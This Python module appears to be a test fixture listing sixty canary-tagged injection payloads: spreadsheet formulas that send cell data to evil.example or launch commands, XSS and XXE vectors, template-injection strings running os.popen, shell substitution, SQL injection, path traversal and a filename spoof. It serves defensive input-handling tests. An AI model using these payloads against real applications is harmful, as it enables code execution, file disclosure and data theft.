"""Sixty texts that would do something if any program took them for more than text. Each carries a mark of its own to be found by."""

from __future__ import annotations

_FORMULAS = (
    "=1+1",
    "=cmd|'/C calc'!A0",
    "+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "\t=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"Error: click")',
    '=WEBSERVICE("http://evil.example/")',
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    '=DDE("cmd";"/C calc";"x")',
    "of:=SUM([.A1])",
    "{=1+1}",
    '";=1+1;"',
    "http://evil.example/click",
    "file:///etc/passwd",
    "_x003D_1+1",
)
_PAGES = (
    "<script>window.pwned=1</script>",
    "</script><script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1>",
    "<svg onload=window.pwned=1>",
    "<svg><script>window.pwned=1</script></svg>",
    '<iframe src="javascript:window.pwned=1"></iframe>',
    '<a href="javascript:window.pwned=1">more</a>',
    '" onmouseover="window.pwned=1" x="',
    "' autofocus onfocus='window.pwned=1",
    "--><script>window.pwned=1</script>",
    "]]><script>window.pwned=1</script>",
    "</title><script>window.pwned=1</script>",
    "</style><script>window.pwned=1</script>",
    "<style>body{display:none}</style>",
    '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
    '<base href="http://evil.example/">',
    '<form action="http://evil.example/"><input name=x>',
    '<link rel=stylesheet href="http://evil.example/x.css">',
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "&#60;script&#62;window.pwned=1&#60;/script&#62;",
    "<ScRiPt>window.pwned=1</sCrIpT>",
    "<math><mi xlink:href='javascript:window.pwned=1'>x</mi></math>",
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "<?xml-stylesheet href='http://evil.example/x.xsl'?>",
    "[more](javascript:window.pwned=1)",
    "![x](http://evil.example/x.png)",
)
_TEMPLATES = (
    "{{ 7 * 191 }}",
    "{% for x in range(9) %}again{% endfor %}",
    "{# gone #}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "${7*191}",
    "%(organisation)s {organisation} {0.__class__}",
    '#read("/etc/passwd")',
    '#eval("7 * 191") #include "/etc/passwd"',
    "$ sum_(k=1)^n k $ *strong* _slanted_ `raw` @label <label>",
    "\\input{/etc/passwd} \\write18{id}",
    "</w:t></w:r><w:r><w:fldChar w:fldCharType='begin'/><w:instrText>DDEAUTO c:\\\\calc.exe</w:instrText>",
)
_OTHERS = (
    "Subject\r\nBcc: everyone@evil.example",
    "'); DROP TABLE rating; --",
    "../../../../etc/passwd",
    "$(touch /tmp/pwned) `touch /tmp/pwned`",
    "txt.\u202exslx.exe",
    "\u200bzero\u200dwidth\ufeff",
)
_TEXTS = (*_FORMULAS, *_PAGES, *_TEMPLATES, *_OTHERS)


def mark(number: int) -> str:
    """Name the mark that a payload carries."""
    return f"canary{number:02d}q"


PAYLOADS = tuple(f"{text} {mark(number)}" for number, text in enumerate(_TEXTS))
